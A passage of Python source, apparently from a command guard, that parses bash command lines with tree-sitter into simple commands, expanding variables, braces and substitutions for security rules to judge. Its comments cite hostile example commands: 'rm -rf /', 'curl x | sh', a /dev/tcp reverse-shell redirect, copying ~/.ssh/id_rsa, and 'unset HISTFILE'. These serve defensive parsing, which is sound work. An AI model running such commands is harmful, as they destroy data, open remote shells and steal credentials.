"""Parse a command line into the simple commands that bash would run.

The guards judge what a command line *does*, not how it is spelled, so they
need what bash itself would see: ``rm -r -f /``, ``sudo env X=1 /bin/rm -fr ~``
and ``bash -c 'rm -rf /'`` are one command, ``echo "rm -rf /"`` is not.

The lexing and the grammar are tree-sitter-bash's (a maintained C grammar: it
parses in time linear in the input, about 20 ns a byte, and knows every
construct bash has: here-documents, process substitutions, ``$'...'``, case,
loops, functions). What remains here is turning its syntax tree into the small
model the rules judge, once per command line:

- a :class:`Script` is a list of pipelines of :class:`SimpleCommand`;
- a word is its value after quote removal; substitutions (``$(...)``,
  backticks, ``<(...)``, ``>(...)``, here-documents) are cut out as
  placeholders and kept, already parsed, in :class:`Substitution`;
- variables assigned earlier in the line (``F=/etc/passwd; echo x >> $F``), by
  builtins (``read x <<< …``, ``printf -v``, ``set --``: :mod:`.shell_values`) and
  loop variables (``for f in a b``) are expanded, an unquoted one split at ``IFS``
  as bash splits it; ``${IFS}`` splits words;
  brace expansion (``{rm,-rf,/}``) is done, in linear time;
- compound commands (if, while, for, case, ``{ }``, ``( )``, functions) are
  flattened into their commands: the rules ask what could run.
"""

from __future__ import annotations

import bisect
import codecs
import contextlib
import contextvars
import functools
import itertools
import posixpath
import re
import shlex
import warnings
from collections.abc import Iterator, Sequence
from typing import TYPE_CHECKING

from ..frozen import Frozen
from ..lazy_regex import lazy_compile
from .budget import TooComplex, spend
from .heredocs import HereDocument, closing, here_documents
from .shell_values import DEFAULT_IFS, assigned, expansion, fields, operated, with_known_numbers

if TYPE_CHECKING:
    from tree_sitter import Node, Parser, Point, Tree

__all__ = [
    "MAX_DEPTH",
    "RUNTIME",
    "UNKNOWN_PART",
    "WRITE_OPERATORS",
    "Function",
    "Redirect",
    "Script",
    "ShellSyntaxError",
    "SimpleCommand",
    "Substitution",
    "as_read",
    "carries_runtime",
    "expand_braces",
    "one_reread_bound",
    "parse",
    "parsed",
    "static_output",
]

MAX_DEPTH = 32
"""How deep substitutions and compound commands may nest before parsing gives up."""
RUNTIME = "$"
"""The kind of a :class:`Substitution` that stands for a variable whose value a builtin made at
run time from what the guard cannot see (``read x``, ``printf -v x '%(%F)T'``): its text is
the variable (``$x``), which is also its static value; its script is empty."""
UNKNOWN_PART = "…"
"""What a part of a path made at run time stands as in :meth:`SimpleCommand.shape`."""
MAX_LOOP_VALUES = 256
"""How many values of a ``for`` loop variable are kept (the first ones)."""
MAX_ONE_VALUE_READINGS = 4
"""How many of a loop variable's values its body is read again with, one at a time (the first ones)."""

_TEST_OPERATORS = frozenset({"==", "=~", "!="})
"""Tokens tree-sitter-bash reads as test operators even in a plain command, where bash sees words."""
_REDIRECT_OPERATORS = frozenset({">", ">>", ">|", "<", "&>", "&>>", "<>"})
"""A redirect operator tree-sitter left in an ERROR node of a command (after a test operator)."""
_SUB_OPEN, _SUB_CLOSE = "\ue020", "\ue021"
_IFS = "\ue023"
_UNQUOTED = "\ue024"
"""Marks an unquoted expansion (``$x``, not ``"$x"``): its value is split into words."""
_MASK = str.maketrans("{,}", "\ue025\ue026\ue027")
"""Braces and commas inside quotes, hidden from brace expansion (``'{a,b}'`` is one word)."""
_UNMASK = str.maketrans("\ue025\ue026\ue027", "{,}")
_QUOTED_NODES = frozenset({"string", "raw_string", "ansi_c_string", "translated_string"})
_OURS = str.maketrans(
    {c: "\ufffd" for c in (_SUB_OPEN, _SUB_CLOSE, _IFS, _UNQUOTED, "\ue025", "\ue026", "\ue027")}
)
_PLACEHOLDER = lazy_compile(f"{_SUB_OPEN}(\\d+){_SUB_CLOSE}")
_LOOKUP = lazy_compile(r"^\s*(?:which|command\s+-v|type\s+-[pP]|whence\s+-p)\s+([\w./+-]+)\s*(?:$|\|\||;)")
"""A substitution that only looks a program up on the PATH: its output is that program."""
_ARRAY_ALL = lazy_compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)\[[@*]\]\}")
_NAME = lazy_compile(r"[A-Za-z_][A-Za-z0-9_]*")
_ZSH_ARRAY = lazy_compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?")
"""``$cmd``, ``${cmd}`` of an array: zsh gives every element."""
_READ = lazy_compile(r"^\s*read\s+(?:-[a-zA-Z]+\s+)*([A-Za-z_][A-Za-z0-9_]*)\s*;?\s*$")
_VARIABLE = lazy_compile(r"\$(?:\{([A-Za-z_][A-Za-z0-9_]*|[@*1-9])\}|([A-Za-z_][A-Za-z0-9_]*|[@*1-9]))")
_STATEMENTS = frozenset({
    "command", "pipeline", "list", "redirected_statement", "subshell", "compound_statement",
    "if_statement", "while_statement", "for_statement", "c_style_for_statement", "case_statement",
    "function_definition", "negated_command", "variable_assignment", "variable_assignments",
    "declaration_command", "unset_command", "test_command", "do_group", "elif_clause", "else_clause",
    "case_item", "ERROR",
})  # fmt: skip
"""Node types that hold commands (the rest are words, operators and comments)."""


class ShellSyntaxError(ValueError):
    """The command line is not valid shell syntax (an unclosed quote or substitution)."""


class Substitution(Frozen):
    """Code that runs while the command line is expanded: ``$(...)``, backticks,
    ``<(...)``, ``>(...)``; or a here-document (``kind="<<"``), whose ``text`` is
    the body and whose ``script`` holds only the substitutions it expands."""

    __slots__ = ("kind", "origins", "script", "text")

    kind: str
    text: str
    script: Script
    origins: tuple[Substitution, ...]
    """For a variable made at run time by an assignment (``c=$(cat f)``, kind :data:`RUNTIME`):
    the substitutions whose output it holds (their code is walked where they stand)."""

    def __init__(self, kind: str, text: str, script: Script, origins: tuple[Substitution, ...] = ()) -> None:
        set_field = object.__setattr__
        set_field(self, "kind", kind)
        set_field(self, "text", text)
        set_field(self, "script", script)
        set_field(self, "origins", origins)


class Redirect(Frozen):
    """One redirection: ``op`` is ``>``, ``>>``, ``<``, ``<<`` ...; ``target`` the word after it."""

    __slots__ = ("fd", "op", "target")

    op: str
    target: str
    fd: str
    """The file descriptor written before the operator (``2`` in ``2>&1``), if any."""

    def __init__(self, op: str, target: str, fd: str = "") -> None:
        set_field = object.__setattr__
        set_field(self, "op", op)
        set_field(self, "target", target)
        set_field(self, "fd", fd)


WRITE_OPERATORS = frozenset({">", ">>", ">|", "&>", "&>>"})
"""The redirect operators that write their target (``>``, ``>>``, ``>|``, ``&>``, ``&>>``): what a
command prints lands in a file."""


class SimpleCommand(Frozen):
    """Words and redirections of one command, as bash would run them.

    Words are unquoted; a word may hold placeholders for substitutions, which
    :meth:`render` turns back into shell text.
    """

    __slots__ = ("background", "redirects", "substitutions", "words")
    _not_compared = _not_shown = frozenset({"substitutions"})

    words: tuple[str, ...]
    redirects: tuple[Redirect, ...]
    substitutions: Sequence[Substitution]
    background: bool
    """Run with ``&`` (or as a stage of a pipeline that is)."""

    def __init__(
        self,
        words: tuple[str, ...],
        redirects: tuple[Redirect, ...],
        substitutions: Sequence[Substitution],
        background: bool = False,
    ) -> None:
        set_field = object.__setattr__
        set_field(self, "words", words)
        set_field(self, "redirects", redirects)
        set_field(self, "substitutions", substitutions)
        set_field(self, "background", background)

    def substitutions_in(self, word: str) -> list[Substitution]:
        """The substitutions a word holds."""
        if _SUB_OPEN not in word:
            return []
        return [self.substitutions[int(m.group(1))] for m in _PLACEHOLDER.finditer(word)]

    def render(self, word: str) -> str:
        """A word as shell text again: placeholders become ``$(...)`` etc."""
        if _SUB_OPEN not in word:
            return word

        def original(match: re.Match[str]) -> str:
            sub = self.substitutions[int(match.group(1))]
            if sub.kind == "`":
                return f"`{sub.text}`"
            if sub.kind == "<<":
                return "EOF"
            if sub.kind == RUNTIME:
                return sub.text
            return f"{sub.kind}{sub.text})"

        return _PLACEHOLDER.sub(original, word)

    def put_in(self, word: str, values: Sequence[str]) -> str:
        """``word`` with its substitutions, in order, replaced by ``values`` (what each prints)."""
        pieces = iter(values)
        return _PLACEHOLDER.sub(lambda _: next(pieces, ""), word)

    def static(self, word: str) -> str | None:
        """The value of a word if it can be known without running anything.

        A substitution that is a lone ``echo``/``printf`` of plain words is
        evaluated (``$(echo rm)`` is ``rm``); any other makes the word dynamic.
        """
        return self._evaluated(word, shaped=False)

    def shape(self, word: str) -> str | None:
        """The value of a word, or the shape of a path whose directory is known.

        ``/etc/cron.d/$(hostname)`` is ``/etc/cron.d/…``: each part made at run time
        becomes :data:`UNKNOWN_PART`, when what comes before the first one names a
        directory (holds a ``/``), so that the known part of the path is still judged.
        A word that starts with an unknown part (``$(pwd)/x``) has no shape: None.
        """
        return self._evaluated(word, shaped=True)

    def _evaluated(self, word: str, *, shaped: bool) -> str | None:
        if _SUB_OPEN not in word:
            return word
        parts: list[str] = []
        last = 0
        directory = False  # a "/" before the first unknown part (kept as we go: linear in the word)
        for match in _PLACEHOLDER.finditer(word):
            parts.append(word[last : match.start()])
            directory = directory or "/" in parts[-1]
            sub = self.substitutions[int(match.group(1))]
            value = _static_output(sub)
            if value is None and shaped and not directory:
                value = _listed_under(sub)  # $(find /sys/… -type d)/x: a path under /sys/
                directory = value is not None
            if value is None and not (shaped and directory):
                return None
            parts.append(UNKNOWN_PART if value is None else value)
            directory = directory or "/" in parts[-1]
            last = match.end()
        parts.append(word[last:])
        return "".join(parts)

    def _shown(self, word: str) -> str:
        if len(word) > _SHOWN_LIMIT:  # messages show a piece; quoting 10 MB would cost seconds
            word = word[:_SHOWN_LIMIT] + "…"
        return self.render(word) if _SUB_OPEN in word else _quote(word)

    @property
    def text(self) -> str:
        """The command as shell text (for messages)."""
        words = [self._shown(w) for w in self.words]
        words += [f"{r.fd}{r.op}{self._shown(r.target)}" for r in self.redirects if r.op != "<<"]
        words += ["<< EOF" for r in self.redirects if r.op == "<<"]
        return " ".join(words)


class Function(Frozen):
    """A shell function definition: its name, its body, and its text (for messages)."""

    __slots__ = ("body", "defined_at", "name", "text")

    name: str
    body: Script
    text: str
    defined_at: int | None
    """Where the script defines it for certain: the index of its body's first pipeline among the
    script's, for a definition that is a statement of the script itself (not inside an ``if``, a
    loop, a list, a subshell or a substitution, where it may not be made); None otherwise."""

    def __init__(self, name: str, body: Script, text: str, defined_at: int | None = None) -> None:
        set_field = object.__setattr__
        set_field(self, "name", name)
        set_field(self, "body", body)
        set_field(self, "text", text)
        set_field(self, "defined_at", defined_at)


class Script(Frozen):
    """A parsed command line: pipelines of simple commands, plus every substitution."""

    __slots__ = ("aliases", "fallbacks", "functions", "malformed", "pipelines", "rows", "substitutions")

    pipelines: tuple[tuple[SimpleCommand, ...], ...]
    substitutions: tuple[Substitution, ...]
    functions: tuple[Function, ...]
    aliases: tuple[Function, ...]
    """The aliases the script defines as statements of its own, one per name: ``alias NAME=VALUE
    ...`` alone, every word a definition, no expansion outside single quotes (the value is what
    the text shows). Each one's ``text`` is its whole statement and its ``body`` empty: the value
    is judged among the script's commands (:mod:`.programs`), and :mod:`.definitions` defers it."""
    malformed: bool
    """tree-sitter found a syntax error; what did parse is still here."""
    rows: tuple[int, ...]
    """The line (from 0) each pipeline's statement starts on, when known (as many as pipelines):
    a shell reads a whole line before it runs it, so what an interpreter started on one line
    reads from the same input is the lines after it (:func:`.programs._repl_input`)."""
    fallbacks: frozenset[int]
    """The pipelines (by index) that start the right of ``||``: run only when the one before failed
    (``cd /tmp || cd /var/run``: the second ``cd`` is an alternative to the first, not a move after it)."""

    def __init__(
        self,
        pipelines: tuple[tuple[SimpleCommand, ...], ...],
        substitutions: tuple[Substitution, ...],
        functions: tuple[Function, ...] = (),
        malformed: bool = False,
        rows: tuple[int, ...] = (),
        aliases: tuple[Function, ...] = (),
        fallbacks: frozenset[int] = frozenset(),
    ) -> None:
        set_field = object.__setattr__
        set_field(self, "pipelines", pipelines)
        set_field(self, "fallbacks", fallbacks)
        set_field(self, "substitutions", substitutions)
        set_field(self, "functions", functions)
        set_field(self, "aliases", aliases)
        set_field(self, "malformed", malformed)
        set_field(self, "rows", rows if len(rows) == len(pipelines) else ())


_SHOWN_LIMIT = 200
_PLAIN_NODES = frozenset({"command", "command_name", "word", "string", "raw_string", "string_content",
                          "concatenation", '"'})  # fmt: skip
"""Nodes of a command whose words are text: no expansion, substitution or ``$'...'``."""
_ALIAS_NAME = lazy_compile(r"[^\s/$`=\\'\"()<>;&|-][^\s/$`=\\'\"()<>;&|]*")
"""A name bash takes for an alias (none of these characters: ``alias a/b=x`` is refused), not an option."""
_PLAIN_WORD = lazy_compile(r"[\w@%+=:,./~$*{}\[\]!?#^`-]+")


def _quote(word: str) -> str:
    if _PLAIN_WORD.fullmatch(word):
        return word
    if word and " " not in word and "'" not in word and '"' not in word and "\\" not in word:
        return word
    if "'" in word and not any(c in word for c in '"$`\\'):
        return f'"{word}"'
    return shlex.quote(word)


def _path_shaped(value: str) -> bool:
    """Whether an assigned value with parts made at run time is still a path of a known shape
    (``/home/$(ls /home)/.bash_history``, ``$d/.ssh``): its literal parts say where it points."""
    if _PLACEHOLDER.fullmatch(value.replace(_UNQUOTED, "")):
        return False
    shape = _PLACEHOLDER.sub("\0", value.replace(_UNQUOTED, ""))
    return "/" in shape.replace("\0", "") and not any(c.isspace() for c in shape)


def carries_runtime(sub: Substitution) -> bool:
    """Whether ``sub`` is a value made at run time, or passes one on unchanged: ``$(echo "$c")``,
    ``$(printf %s "$c")`` of ``c=$(cat f)`` print what ``cat f`` printed, not the text ``$c``."""
    if sub.kind == RUNTIME:
        return True
    if sub.kind not in ("$(", "`") or _static_output(sub) is None:
        return False
    return any(inner.kind == RUNTIME for inner in sub.script.substitutions)


def _origins(sub: Substitution) -> tuple[Substitution, ...]:
    """The code whose output a value holds: ``$(cat f)`` for ``$c`` of ``c=$(cat f)``, and for
    ``$(echo "$c")``, which passes that value on."""
    if sub.kind == RUNTIME:
        return sub.origins
    if carries_runtime(sub):
        inner = tuple(o for s in sub.script.substitutions if s.kind == RUNTIME for o in s.origins)
        return inner or (sub,)
    return (sub,)


def static_output(sub: Substitution) -> str | None:
    """What a substitution prints when the line says (``$(echo rm)``), else None (:func:`_static_output`)."""
    return _static_output(sub)


def _listed_under(sub: Substitution) -> str | None:
    """``$(find /sys/devices -type d)``, ``$(ls -d /home/*)``: the directory every path it prints is under
    (``/sys/devices/…``, ``/home/…``), when it lists one absolute directory's contents and nothing else."""
    if sub.kind not in ("$(", "`") or len(sub.script.pipelines) != 1 or len(sub.script.pipelines[0]) != 1:
        return None
    command = sub.script.pipelines[0][0]
    words = [command.static(w) for w in command.words]
    if words[:1] not in (["find"], ["ls"]) or command.redirects:
        return None
    roots = [w for w in words[1:] if w is not None and w.startswith("/")][:1]
    if not roots:
        return None
    root = roots[0]
    glob = min((i for i, c in enumerate(root) if c in "*?["), default=len(root))
    directory = root[: root.rfind("/", 0, glob + 1) + 1] if glob < len(root) else root.rstrip("/") + "/"
    return directory + UNKNOWN_PART if len(directory) > 1 else None


def _static_output(sub: Substitution) -> str | None:
    """What ``$(echo WORDS)`` or ``$(printf TEXT)`` prints, when that is all it does.

    A variable made at run time (:data:`RUNTIME`) is itself, ``$x``: a value the guard does
    not know, read as the rules read any variable they do not know."""
    if sub.kind == RUNTIME:
        return sub.text
    if sub.kind in ("$(", "`") and not sub.script.pipelines and not sub.text.strip():
        return ""  # `` and $(): nothing runs, nothing is printed
    if sub.kind not in ("$(", "`") or len(sub.script.pipelines) != 1:
        return None
    pipeline = sub.script.pipelines[0]
    if len(pipeline) != 1:
        return None
    command = pipeline[0]
    words = [command.static(w) for w in command.words]
    if words[:1] == ["cat"] and all(w in ("-", "--") for w in words[1:]) and len(command.redirects) == 1:
        return _fed_text(command, command.redirects[0])
    if not words or any(w is None for w in words) or command.redirects:
        return None
    name, *args = words
    if name == "echo":
        escapes = False
        while args and args[0] in ("-n", "-e", "-E", "-ne", "-en"):
            escapes = args[0] in ("-e", "-ne", "-en") or (escapes and args[0] != "-E")
            args = args[1:]
        text = " ".join(a for a in args if a is not None)
        return ansi_c(text) if escapes else text  # echo -e '\x2f\x65…' is /e…
    if name == "printf" and args:
        template = args[0] or ""
        if "%" in template:
            if template.replace("%s", "") in ("", "\\n"):
                return "".join(a for a in args[1:] if a is not None)
            return None
        return ansi_c(template)
    return None


def _fed_text(command: SimpleCommand, redirect: Redirect) -> str | None:
    """What ``$(cat <<EOF …)`` or ``$(cat <<< TEXT)`` prints, when the text runs nothing
    (trailing newlines cut, as a substitution cuts them)."""
    if redirect.fd not in ("", "0"):
        return None
    if redirect.op == "<<<":
        value = command.static(redirect.target)
        return None if value is None else value.rstrip("\n")
    if redirect.op == "<<":
        subs = command.substitutions_in(redirect.target)
        if len(subs) == 1 and not subs[0].script.pipelines and not subs[0].script.substitutions:
            return subs[0].text.rstrip("\n")
    return None


def ansi_c(body: str) -> str:
    """The value of a ``$'...'`` string (``\\x41`` is ``A``)."""
    # Python warns about escapes bash accepts (``\;``): they mean themselves here too.
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        try:
            value = codecs.decode(body.encode("utf-8", "surrogatepass"), "unicode_escape")
        except UnicodeDecodeError:
            return body
    return value.partition("\0")[0]  # bash's strings are C strings: $'rm\0x' is rm


MAX_BRACE_WORDS = 256
"""How many words nested or successive brace groups may expand to (one group: all its parts)."""
_SEQUENCE = lazy_compile(r"(-?\d{1,6}|[A-Za-z])\.\.(-?\d{1,6}|[A-Za-z])(?:\.\.(-?\d{1,6}))?")


def expand_braces(word: str) -> list[str]:
    """Brace expansion as bash does it: ``{rm,-rf,/}``, nested ``{rm,{~/,}}``, ``{r..r}m``.

    The first group is the first ``{`` (not ``${``) whose matching ``}`` follows
    with no blank between and a comma or a ``..`` sequence inside; its parts are
    expanded again, until :data:`MAX_BRACE_WORDS` words (then the rest keep their braces).
    """
    found = _first_group(word)
    if found is None:
        return [word]
    head, parts, tail = found
    results = [head + part + tail for part in parts if head or part or tail]  # {a,} is a
    if len(results) >= MAX_BRACE_WORDS:
        return results
    expanded: list[str] = []
    for result in results:
        expanded.extend(expand_braces(result) if len(expanded) < MAX_BRACE_WORDS else [result])
    return expanded[: max(MAX_BRACE_WORDS, len(results))]


def _first_group(word: str) -> tuple[str, list[str], str] | None:
    """The text before the first brace group, its parts, and the text after it: one scan."""
    opened: list[tuple[int, list[int]]] = []  # each open brace, with its top-level commas
    first: tuple[str, list[str], str] | None = None  # the valid group that opens first so far
    first_start = len(word)
    for index, char in enumerate(word):
        if char == "{" and not (index and word[index - 1] == "$"):
            opened.append((index, []))
        elif not opened:
            continue
        elif char == ",":
            opened[-1][1].append(index)
        elif char == "}":
            start, commas = opened.pop()
            head, tail = word[:start], word[index + 1 :]
            sequence = None if commas else _SEQUENCE.fullmatch(word[start + 1 : index])
            if start < first_start and commas:
                bounds = [start, *commas, index]
                first, first_start = (
                    (head, [word[a + 1 : b] for a, b in itertools.pairwise(bounds)], tail),
                    start,
                )
            elif start < first_start and sequence is not None:
                first, first_start = (head, _sequence(*sequence.groups()), tail), start
            if not opened and first is not None:
                return first  # an outermost brace closed: no later group opens earlier
        elif char.isspace():
            opened.clear()
            if first is not None:
                return first
    return first


def _sequence(first: str, last: str, step: str | None) -> list[str]:
    """``{a..c}``, ``{1..3}``, ``{5..1..2}``: at most :data:`MAX_BRACE_WORDS` values."""
    by = abs(int(step)) if step and int(step) else 1
    if first.lstrip("-").isdigit() and last.lstrip("-").isdigit():
        low, high = int(first), int(last)
        numbers = range(low, high + 1, by) if low <= high else range(low, high - 1, -by)
        return [str(n) for n in numbers[:MAX_BRACE_WORDS]]
    if first.isdigit() or last.isdigit():
        return ["{" + first + ".." + last + "}"]
    low, high = ord(first), ord(last)
    codes = range(low, high + 1, by) if low <= high else range(low, high - 1, -by)
    return [chr(c) for c in codes[:MAX_BRACE_WORDS]]


# -- the tree -> the model ---------------------------------------------------------------


@functools.cache
def _parser() -> Parser:
    import tree_sitter

    return tree_sitter.Parser(tree_sitter.Language(_bash_language()))


def _bash_language() -> object:
    """tree-sitter-bash's grammar, from its compiled binding alone when it can be found.

    The package's ``__init__`` imports importlib.resources (with tempfile and
    shutil) for a query file the guards never read: a few milliseconds of every
    hook process. The binding is found on the same import path and registered
    under its own name, so a later ``import tree_sitter_bash`` reuses it.
    """
    import sys
    from importlib.machinery import PathFinder
    from importlib.util import find_spec, module_from_spec

    name = "tree_sitter_bash._binding"
    if name not in sys.modules:
        package = find_spec("tree_sitter_bash")  # locates the package without running it
        locations = package.submodule_search_locations if package is not None else None
        spec = PathFinder.find_spec(name, list(locations)) if locations else None
        if spec is None or spec.loader is None:
            import tree_sitter_bash

            return tree_sitter_bash.language()
        binding = module_from_spec(spec)
        spec.loader.exec_module(binding)
        sys.modules[name] = binding
    return sys.modules[name].language()


MAX_REREAD = 4
"""How many times over its length a command's text may be parsed again (substitutions that
tree-sitter misread, nested): past it (and :data:`REREAD_FLOOR`), the parse gives up and the
command is denied at once. Each nesting level of an unclosed ``$(`` reads the rest of the
text again: without a bound, 32 levels of it cost 32 parses of the whole text."""
REREAD_FLOOR = 1 << 16
"""Bytes any command may have parsed again, however short: nesting a real command uses."""


class _Reread:
    """The bytes parsed again so far in one parse, against the bound of :data:`MAX_REREAD`."""

    __slots__ = ("bound", "done")

    def __init__(self, length: int) -> None:
        self.bound = MAX_REREAD * length + REREAD_FLOOR
        self.done = 0

    def add(self, length: int) -> None:
        self.done += length
        if self.done > self.bound:
            raise TooComplex(
                "substitutions nested in a way tree-sitter cannot read, parsed again more than "
                f"{MAX_REREAD} times over the command's length: more than the guards judge"
            )


_shared_reread: contextvars.ContextVar[_Reread | None] = contextvars.ContextVar(
    "agentbus_shared_reread", default=None
)


@contextlib.contextmanager
def one_reread_bound(length: int) -> Iterator[None]:
    """The parses inside share one bound of bytes parsed again (a text's repairs, each a parse
    of nearly the same text, cost no more than one)."""
    token = _shared_reread.set(_shared_reread.get() or _Reread(length))
    try:
        yield
    finally:
        _shared_reread.reset(token)


class _Builder:
    """Walks a tree-sitter syntax tree once, collecting pipelines, substitutions, functions."""

    def __init__(
        self,
        source: bytes,
        variables: dict[str, list[str]] | None = None,
        depth: int = 0,
        heredocs: dict[int, HereDocument] | None = None,
    ) -> None:
        self.source = source
        self.depth = depth
        if heredocs is None:
            heredocs = here_documents(source) if b"<" in source and b"<<" in source else {}
        self.heredocs = heredocs
        """The here-document bodies of the source, found by bash's rules (:mod:`.heredocs`)."""
        self.rest_redirects: list[Redirect] = []
        """Redirections :meth:`rest_of_line` found after a here-document's delimiter."""
        self.reread = _shared_reread.get() or _Reread(len(source))
        """How many bytes were parsed again (shared by every builder of one parse)."""
        self.operators: list[int] = []
        """The here-documents' operators, in order (made when first needed)."""
        self.bodies_read: set[int] = set()
        """The operators of the bodies read as some redirection's here-document."""
        self.pipelines: list[tuple[SimpleCommand, ...]] = []
        self.subs: list[Substitution] = []
        self.functions: list[Function] = []
        self.aliases: list[Function] = []
        self.variables: dict[str, list[str]] = variables if variables is not None else {}
        self.background = False
        self.dropped: set[int] = set()
        """Start bytes of words that are a redirection's descriptor (``sh 0</tmp/f``)."""
        self.arrays: dict[str, list[str]] = {}
        self.owners: dict[str, list[Substitution]] = {}
        """For a variable (or ``name[@]``, an array) whose values hold placeholders (``for f in
        $(ls)``, ``a=($(ls))``): the list of substitutions they index."""
        self.reparsed_to = 0
        """The end of the last substitution parsed again from the text (see :meth:`reparse_from`)."""
        self.masking = False
        """Quoted braces are being masked from brace expansion (while :meth:`words` reads a word)."""
        self.braces = ""
        """``{`` that tree-sitter read as opening a brace group and bash as starting the next word."""
        self.splitting = True
        """Whether unquoted expansions are split into words (not in an assignment's value)."""
        self.loop_fed: set[str] = set()
        """Variables a ``while read`` loop's condition reads from the loop's here-string (bound already)."""
        self.trailing: list[str] = []
        """Words after a redirection's target (``cat >/tmp/x ~/.ssh/id_rsa``): the command's arguments."""
        self.glued_fd = ""
        """A descriptor tree-sitter read as the end of the previous redirection (``>&/dev/tcp/h/p 0>&1``)."""
        self.rows: list[int] = []
        """The line each pipeline's statement starts on (:attr:`Script.rows`)."""
        self.fallbacks: set[int] = set()
        """The pipelines that start the right of ``||`` (:attr:`Script.fallbacks`)."""
        self.namerefs: dict[str, str] = {}
        """``declare -n r=x``: r names x (reading or assigning r is x)."""
        self.operations = itertools.count(1)
        """Numbers the variables :meth:`operation` makes (shared with nested builders, like the variables)."""
        self.one_value = False
        """A loop's body is being read with one value of its variable (:meth:`loop_runs`)."""

    def text(self, node: Node) -> str:
        return self.source[node.start_byte : node.end_byte].decode("utf-8", "surrogatepass")

    def script(self) -> Script:
        del self.rows[len(self.pipelines) :]
        return Script(
            tuple(self.pipelines),
            tuple(self.subs),
            tuple(self.functions),
            rows=tuple(self.rows),
            aliases=tuple(self.aliases),
            fallbacks=frozenset(self.fallbacks),
        )

    def nested(self) -> _Builder:
        if self.depth >= MAX_DEPTH:
            raise ShellSyntaxError(f"the command nests more than {MAX_DEPTH} levels deep")
        inner = _Builder(self.source, self.variables, self.depth + 1, self.heredocs)
        inner.bodies_read = self.bodies_read
        inner.operators = self.operators
        inner.reread = self.reread
        inner.dropped = self.dropped
        inner.arrays = self.arrays
        inner.owners = self.owners
        inner.namerefs, inner.operations = self.namerefs, self.operations
        inner.one_value = self.one_value
        return inner

    # statements

    def statements(self, node: Node) -> None:
        """Every statement among ``node``'s children, in order."""
        children = node.children
        for index, child in enumerate(children):
            if child.type in _STATEMENTS:
                following = children[index + 1] if index + 1 < len(children) else None
                background = following is not None and following.type == "&"
                self.statement(child, background=background)
                del self.rows[len(self.pipelines) :]  # a pipeline's stages, gathered again as one
                self.rows.extend([child.start_point[0]] * (len(self.pipelines) - len(self.rows)))
            elif child.type == "heredoc_body":
                continue  # read by its redirect
            elif child.type in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
                # $(< FILE): a redirection with no command reads the file.
                self.pipelines.append((SimpleCommand((), tuple(self.redirect(child)), self.subs),))
            elif child.is_named and child.type not in ("comment", "word") and self.depth < MAX_DEPTH:
                # A word-like node where a statement was expected (inside ERROR): its substitutions run.
                self.word(child)

    def statement(
        self, node: Node, *, background: bool = False, redirects: tuple[Redirect, ...] = ()
    ) -> None:
        kind = node.type
        spend()
        if self.depth >= MAX_DEPTH:
            raise ShellSyntaxError(f"the command nests more than {MAX_DEPTH} levels deep")
        if kind == "command":
            command = self.command(node, redirects, background)
            if command.words[:1] == ("alias",):
                self.alias(node, command)
            self.pipelines.append((command,))
            self.builtin_values(command)
            self.sourced_input(command)
        elif kind == "pipeline":
            stages: list[SimpleCommand] = []
            for child in node.children:
                carried: tuple[Redirect, ...] = ()
                if not stages:
                    child, carried = self.leading_list(child, background)
                if child.type in _STATEMENTS:
                    inner = self.nested_statement(child, background)
                    if carried and inner:
                        last = inner[-1][-1]
                        inner[-1] = (*inner[-1][:-1], last.replace(redirects=last.redirects + carried))
                    stages.extend(command for pipeline in inner for command in pipeline)
            if redirects and stages:
                last = stages[-1]
                stages[-1] = last.replace(redirects=last.redirects + redirects)
            if stages:
                self.pipelines.append(tuple(stages))
        elif kind == "redirected_statement":
            body = node.child_by_field_name("body")
            nodes = [c for c in node.children if c.type in ("file_redirect", "heredoc_redirect",
                                                                "herestring_redirect")]  # fmt: skip
            glued = self.glued_descriptor(body, nodes[0]) if body is not None and nodes else None
            outer, self.trailing = self.trailing, []
            own = tuple(redirect for child in nodes for redirect in self.redirect(child))
            trailing, self.trailing = self.trailing, outer
            if glued is not None and own:
                own = (own[0].replace(fd=glued), *own[1:])
            dashes = self.dropped_dashes(node)
            if body is None:
                self.pipelines.append((SimpleCommand(tuple(trailing), own, self.subs, background),))
            else:
                count = len(self.pipelines)
                self.statement(body, background=background, redirects=own + redirects)
                grew = len(self.pipelines) > count
                if (trailing and grew and body.type == "command") or (dashes and grew):
                    last = self.pipelines[-1][-1]
                    extended = last.replace(words=last.words + dashes + tuple(trailing))
                    self.pipelines[-1] = (*self.pipelines[-1][:-1], extended)
            for broken in (c for c in node.children if c.type == "ERROR"):
                self.error(broken, background)  # `echo $(( (curl x | sh) ) 2>&1)`: what did not parse
            # cat <<EOF | sh: tree-sitter puts what follows the here-document's start inside it.
            for after in (c for n in nodes if n.type == "heredoc_redirect" for c in n.children):
                if (
                    after.type == "pipeline"
                    and after.children
                    and after.children[0].type == "|"
                    and self.pipelines
                ):
                    stages = [c for part in after.children if part.type in _STATEMENTS
                              for p in self.nested_statement(part, background) for c in p]  # fmt: skip
                    self.pipelines[-1] = (*self.pipelines[-1], *stages)
                elif after.type in _STATEMENTS:
                    self.statement(after, background=background)
        elif kind == "list":
            children = [c for c in node.children if c.type in _STATEMENTS]
            operators = [c.type for c in node.children if c.type in ("&&", "||")]
            for index, child in enumerate(children):
                if index and operators[index - 1 : index] == ["||"]:
                    self.fallbacks.add(len(self.pipelines))
                # a && b > file: tree-sitter puts the redirect on the list; bash on its last command.
                self.statement(
                    child, background=background, redirects=redirects if index == len(children) - 1 else ()
                )
        elif kind == "function_definition":
            name_node = node.child_by_field_name("name")
            body = node.child_by_field_name("body")
            definition = self.nested()
            # One list of substitutions: the body's commands join ours below, and a redirection
            # of an enclosing loop (`while ...; do f() {...}; done <<< "$(x)"`) names ours.
            definition.subs = self.subs
            if body is not None:
                definition.statement(body)
            script = definition.script()
            parent = node.parent
            at_top = parent is not None and parent.type == "program"
            certain = at_top and self.depth == 0 and not self.one_value
            self.functions.append(
                Function(
                    self.text(name_node) if name_node else "",
                    script,
                    self.text(node),
                    len(self.pipelines) if certain else None,
                )
            )
            self.functions.extend(definition.functions)
            # The body runs when the function is called: judge its commands as if they ran.
            self.pipelines.extend(script.pipelines)
        elif kind in ("variable_assignment", "variable_assignments", "declaration_command"):
            self.assignments(node, redirects, background)
        elif kind == "unset_command":
            # unset HISTFILE: a command that changes the shell (tree-sitter gives it a node of its own).
            words = ["unset"] + [
                word
                for child in node.children
                if child.is_named and child.type != "comment"
